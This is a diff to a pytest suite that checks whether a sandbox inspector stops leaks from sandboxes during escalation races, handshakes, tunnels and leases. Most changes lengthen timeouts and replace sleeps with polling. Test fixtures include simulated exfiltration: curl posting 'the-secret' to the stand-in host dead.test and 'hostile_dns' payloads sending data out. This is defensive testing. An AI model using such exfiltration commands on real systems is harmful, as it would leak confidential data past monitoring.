@@ -2,6 +2,7 @@
 """Attacks of a sandbox on the inspector itself: on its memory, and on what it does between two messages of the daemon."""
 import contextlib
 import os
+import pathlib
 import shutil
 import signal
 import socket
@@ -13,7 +14,6 @@ import time
 import pytest
 
 from lib import base, websocket
-from lib.api import Api
 from lib.box import Adopted, Box, new_session
 from lib.inspected import Inspected
 from lib.world import DEV, FAR
@@ -121,8 +121,8 @@ class Slow:
     def run(self):
         s, _ = self.listener.accept()
         self.met.set()
-        self.go.wait(8)
-        s.settimeout(3)
+        self.go.wait(120)
+        s.settimeout(60)
         with contextlib.suppress(OSError):
             if self.context:
                 s = self.context.wrap_socket(s, server_side=True)
@@ -132,12 +132,12 @@ class Slow:
 
     def close(self):
         self.go.set()
-        self.thread.join(10)
+        self.thread.join(120)
         self.listener.close()
 
 
 def post(net, session):
-    return subprocess.Popen(net.argv("curl", "-sS", "-k", "-m", "8", "--http1.1", "--connect-to", f"::{FAR[4]}:", "-d", "the-secret",
+    return subprocess.Popen(net.argv("curl", "-sS", "-k", "-m", "90", "--http1.1", "--connect-to", f"::{FAR[4]}:", "-d", "the-secret",
                                      "https://dead.test/", session=session), env=net.env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
 
 
@@ -149,17 +149,17 @@ def test_a_raise_during_the_handshake(raised):
         slow = Slow(net, 443, True)
         stack.callback(slow.close)
         client = post(net, net.session)
-        assert slow.met.wait(8)
+        assert slow.met.wait(120)
         if raised:
             assert net.api.escalate(net.session, "SECRET")["level"] == "SECRET"
         slow.go.set()
-        out = client.communicate(timeout=20)[0]
-        slow.thread.join(10)
+        out = client.communicate(timeout=180)[0]
+        slow.thread.join(120)
         if not raised:
             assert b"the-secret" in slow.got, out
             return
         with Box(net.daemon, session=net.session, level="SECRET") as box:  # one that comes now is refused
-            again = box.call("execute", argv=["curl", "-sS", "-k", "-m", "8", "--connect-to", f"::{FAR[4]}:", "https://dead.test/"])["out"]
+            again = box.call("execute", argv=["curl", "-sS", "-k", "-m", "90", "--connect-to", f"::{FAR[4]}:", "https://dead.test/"])["out"]
             assert "address" in again, again
         assert slow.got == b"", f"after the raise was acknowledged {SLOW} got {slow.got}"
 
@@ -175,18 +175,18 @@ class Full:
             listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
             listener.bind((SLOW, port))
             listener.listen(0)
-            fill = socket.create_connection((SLOW, port), 3)
+            fill = socket.create_connection((SLOW, port), 60)
             return listener, fill
 
         self.listener, self.fill = base.setns_call(net.world.far, make)
         self.got = b""
 
-    def take(self):
-        self.listener.settimeout(6)
+    def take(self, seconds):
+        self.listener.settimeout(seconds)
         with contextlib.suppress(OSError):
             self.listener.accept()[0].close()
             s, _ = self.listener.accept()
-            s.settimeout(3)
+            s.settimeout(seconds)
             self.got = s.recv(100)
             s.sendall(b"heard")
 
@@ -205,10 +205,11 @@ def test_a_raise_while_a_tunnel_dials(raised):
             got = {}
             say = threading.Thread(target=lambda: got.update(r=box.payload("hostile_dns", "say", name="dead.test", port=9300, text="the-secret")))
             say.start()
-            time.sleep(0.6)
+            dials = lambda: SLOW in base.sh(*net.world.enter(), "ss", "-Htn", "state", "syn-sent").stdout
+            assert base.eventually(dials)
             if raised:
                 net.api.escalate(net.session, "SECRET")
-            full.take()
+            full.take(6 if raised else 60)
             say.join()
         if raised:
             assert full.got == b"", f"after the raise was acknowledged {SLOW} got {full.got}: {got}"
@@ -221,15 +222,13 @@ def stuck(net, box, path, do, write=False):
     got = {}
     hold = threading.Thread(target=lambda: got.update(r=box.payload("hostile_dns", "lease", timeout=20, path=path, write=write)))
     hold.start()
-    time.sleep(1)
+    inode = f":{os.stat(path).st_ino} "
+    assert base.eventually(lambda: any("LEASE" in line and inode in line for line in open("/proc/locks")))
     doing = threading.Thread(target=do)
     doing.start()
     time.sleep(0.3)
-    try:
-        Api(net.daemon.socket, timeout=4).health()
-        answered = True
-    except OSError:
-        answered = False
+    net.api.health()
+    answered = hold.is_alive()  # and not because the lease was over
     hold.join()
     doing.join()
     assert got["r"][0] == 0 and "held" in got["r"][1], got
@@ -323,9 +322,9 @@ def test_a_tunnel_is_told_of_however_it_ends(how):
         stack.callback(sink.close)
         with Box(net.daemon, "PROXIED") as box:
             pour = threading.Thread(target=lambda: box.payload("hostile_dns", "pour", name="dead.test", port=9300, kib=1000,
-                                                               hold=2 if how == "raised" else 0))
+                                                               hold=5 if how == "raised" else 0))
             pour.start()
-            assert base.eventually(lambda: sink.got == 1024000, 8)
+            assert base.eventually(lambda: sink.got == 1024000)
             if how == "raised":
                 net.api.escalate(box.session, "SECRET")
             pour.join()
@@ -341,10 +340,16 @@ def test_a_request_is_told_of_when_its_sandbox_ends(path):
         net = Inspected(stack, inspectors=1)
         upgrade = websocket.CURL if path == "/ws" else []
         name = "ws.origin.test" if path == "/ws" else "origin.test"
-        last = net.last()
-        got = net.run("timeout", "-s", "KILL", "3", "curl", "-sS", "--http1.1", "-m", "15", "--connect-to", f"::{FAR[4]}:", *upgrade, f"https://{name}{path}")
-        assert got.returncode == 137, got
-        assert net.events(lambda e: path in e["url"], after=last, timeout=5), net.api.events(session=net.session)
+        last, before = net.last(), {s["sandbox"] for s in net.api.sandboxes(net.session)}
+        p = net.spawn("curl", "-sS", "--http1.1", "-m", "120", "--connect-to", f"::{FAR[4]}:", *upgrade, f"https://{name}{path}")
+        try:
+            open_ = lambda: [s for s in net.api.sandboxes(net.session) if s["sandbox"] not in before and s["requests"]]
+            [box] = base.eventually(open_) or [None]
+            pathlib.Path(box["cgroup"], "cgroup.kill").write_text("1")
+            assert p.wait(120) == 137
+        finally:
+            base.reap(p)
+        assert net.events(lambda e: path in e["url"], after=last), net.api.events(session=net.session)
 
 
 def test_nothing_slips_to_a_synthetic_address():
